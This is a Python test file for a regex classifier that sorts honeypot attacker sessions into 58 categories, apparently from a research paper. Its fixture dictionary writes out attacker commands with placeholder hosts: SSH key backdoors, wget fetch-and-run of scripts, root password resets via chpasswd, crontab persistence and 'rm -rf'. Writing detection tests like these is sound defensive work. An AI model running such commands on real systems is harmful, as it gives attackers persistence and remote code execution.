"""Table-1 regex rules: one canonical example per category, plus
precedence behaviour."""

from __future__ import annotations

import pytest

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.regexrules import CATEGORY_NAMES, RULES, UNKNOWN_CATEGORY, rule_by_name

#: category → a canonical command string it must match.
CANONICAL = {
    "mdrfckr": 'echo "ssh-rsa AAAA... mdrfckr" >> .ssh/authorized_keys',
    "curl_maxred": "curl https://x/ --max-redirs 5",
    "rapperbot": 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAQCx rapper" >> k',
    "fslur_attack": "wget http://1.2.3.4/fslurtoken.sh",
    "gslur_echo": "echo gslurtoken > /tmp/.g",
    "ohshit_attack": "cd /tmp; wget http://h/ohshit.sh",
    "onions_attack": "wget http://h/onions1337.x86",
    "sora_attack": "cd /tmp; wget http://h/sora.sh",
    "heisen_attack": "wget http://h/Heisenberg.sh",
    "zeus_attack": "wget http://h/Zeus.arm",
    "update_attack": "wget http://h/update.sh; ./update.sh",
    "lenni_0451": "echo lenni0451 > /tmp/.l",
    "juicessh": "echo juicessh",
    "clamav": "echo x > /tmp/clamav.cron; crontab /tmp/clamav.cron",
    "passwd123_daemon": 'echo "daemon:Password123"|chpasswd; wget http://h/d',
    "wget_dget": "wget -4 http://h/d; dget -4 http://h/d",
    "openssl_passwd": "openssl passwd -1 abcd1234",
    "perl_dred_miner": "echo '#!/usr/bin/perl # dred' > /tmp/d.pl",
    "stx_miner": "export LC_ALL=C; echo stx > /tmp/.lock",
    "export_vei": "export VEI=1",
    "cloud_print": "echo cloud print test",
    "binx86": "lscpu | grep 'CPU(s):'; echo bin.x86_64",
    "root_17_char_pwd": 'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd',
    "root_12_char_echo321": 'echo "root:A1b2C3d4E5f6"|chpasswd; echo 321',
    "root_12_char_capscout": (
        'echo "root:A1b2C3d4E5f6"|chpasswd; '
        "cat /proc/cpuinfo | grep name | awk '{print $4,$5,$6,$7,$8,$9;}'"
    ),
    "ak47_scout": r'echo -e "\x41\x4b\x34\x37"; echo writable',
    "echo_ssh_check": 'echo "SSH check"',
    "echo_os_check": "echo 0a1b2c3d-0a1b-2c3d-4e5f-0a1b2c3d4e5f",
    "echo_ok": r'echo -e "\x6F\x6B"',
    "echo_ok_txt": "echo ok",
    "shell_fp": "echo $SHELL; dd bs=22 count=1",
    "uname_a_nproc": "uname -a; nproc",
    "uname_snri_nproc": "uname -s -n -r -i; nproc",
    "uname_svnrm": "uname -s -v -n -r -m",
    "uname_svnr_model": "uname -s -v -n -r; cat /proc/cpuinfo | grep 'model name'",
    "uname_svnr": "uname -s -v -n -r",
    "uname_a": "uname -a",
    "bbox_scout_cat": "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
    "bbox_loaderwget": "wget http://h/loader.wget",
    "bbox_echo_elf": r'/bin/busybox ps; echo -ne "\x7f\x45\x4c\x46" > .e',
    "bbox_rand_exec": "/bin/busybox dd if=/dev/urandom of=.r",
    "bbox_5_char_v2": "/bin/busybox QKZDF; /bin/busybox wget http://h/f",
    "rm_obf_pattern_1": "rm -rf *;cd /tmp ; echo x0x0x0; wget http://h/f",
    "rm_obf_pattern_7": "cd /tmp;rm -rf /tmp/* || cd /var/run; wget http://h/f",
    "bbox_unlabelled": "busybox ps; /tmp/f",
    "gen_curl_echo_ftp_wget": "curl -O u; echo x > f; ftpget h f f; wget u",
    "gen_curl_ftp_wget": "curl -O u; ftpget h f f; wget u",
    "gen_curl_echo_wget": "curl -O u; echo x > f; wget u",
    "gen_echo_ftp_wget": "echo x > f; ftpget h f f; wget u",
    "gen_curl_wget": "curl -O u; wget u",
    "gen_curl_echo": "curl -O u; echo x > f",
    "gen_echo_wget": "echo x > f; wget u",
    "gen_ftp_wget": "ftpget h f f; wget u",
    "gen_echo_ftp": "echo x > f; ftpget h f f",
    "gen_curl": "curl -O http://h/f",
    "gen_wget": "wget http://h/f",
    "gen_ftp": "ftpget -u anonymous h f f",
    "gen_echo": "echo payload > /tmp/f",
}


class TestRuleTable:
    def test_rule_count_is_58_plus_unknown(self):
        assert len(RULES) == 58
        assert len(CATEGORY_NAMES) == 59
        assert CATEGORY_NAMES[-1] == UNKNOWN_CATEGORY

    def test_names_unique(self):
        names = [rule.name for rule in RULES]
        assert len(names) == len(set(names))

    def test_every_rule_has_canonical_example(self):
        assert set(CANONICAL) == {rule.name for rule in RULES}

    def test_rule_by_name(self):
        assert rule_by_name("mdrfckr").name == "mdrfckr"
        with pytest.raises(KeyError):
            rule_by_name("nope")

    @pytest.mark.parametrize("category", sorted(CANONICAL))
    def test_canonical_example_classifies(self, category):
        assert DEFAULT_CLASSIFIER.classify_text(CANONICAL[category]) == category


class TestPrecedence:
    def test_mdrfckr_beats_everything(self):
        text = CANONICAL["rapperbot"] + "; mdrfckr"
        assert DEFAULT_CLASSIFIER.classify_text(text) == "mdrfckr"

    def test_specific_before_generic(self):
        # sora session also contains wget, but sora wins
        assert DEFAULT_CLASSIFIER.classify_text(CANONICAL["sora_attack"]) == "sora_attack"

    def test_uname_svnrm_before_svnr(self):
        assert DEFAULT_CLASSIFIER.classify_text("uname -s -v -n -r -m") == "uname_svnrm"

    def test_root17_before_root12(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text('echo "root:AAAAbbbbCCCCddd17"|chpasswd')
            == "root_17_char_pwd"
        )

    def test_root12_does_not_match_17(self):
        text = 'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd; echo 321'
        assert DEFAULT_CLASSIFIER.classify_text(text) == "root_17_char_pwd"

    def test_bbox_5char_before_unlabelled(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text(CANONICAL["bbox_5_char_v2"])
            == "bbox_5_char_v2"
        )

    def test_plain_busybox_falls_to_unlabelled(self):
        assert DEFAULT_CLASSIFIER.classify_text("busybox ps") == "bbox_unlabelled"

    def test_gen_order_most_tools_first(self):
        assert (
            DEFAULT_CLASSIFIER.classify_text(CANONICAL["gen_curl_echo_ftp_wget"])
            == "gen_curl_echo_ftp_wget"
        )

    def test_unknown_fallback(self):
        assert DEFAULT_CLASSIFIER.classify_text("cd /tmp; ./payload") == UNKNOWN_CATEGORY
        assert DEFAULT_CLASSIFIER.classify_text("") == UNKNOWN_CATEGORY

    def test_tftp_counts_as_ftp_tool(self):
        # "tftp" contains the "ftp" token, as in the paper's generic rules
        assert DEFAULT_CLASSIFIER.classify_text("tftp -g -r f h") == "gen_ftp"
